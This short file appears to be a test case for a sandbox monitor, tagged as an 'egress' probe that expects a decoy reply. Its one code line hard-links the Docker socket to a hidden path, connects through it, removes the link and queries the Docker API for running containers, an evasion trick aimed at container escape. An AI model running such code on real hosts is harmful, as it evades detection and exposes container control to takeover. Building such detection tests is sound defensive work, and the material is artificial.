#: {"class": "egress", "loader": "script", "expect": [["connect", "docker\\.sock|/run/\\.x"]], "effect": {"loot": "DECOY-reply"}}
import socket
os.link("/run/docker.sock", "/run/.x"); s = socket.socket(socket.AF_UNIX); s.connect("/run/.x"); os.unlink("/run/.x"); s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n"); LOOT(s.recv(999))
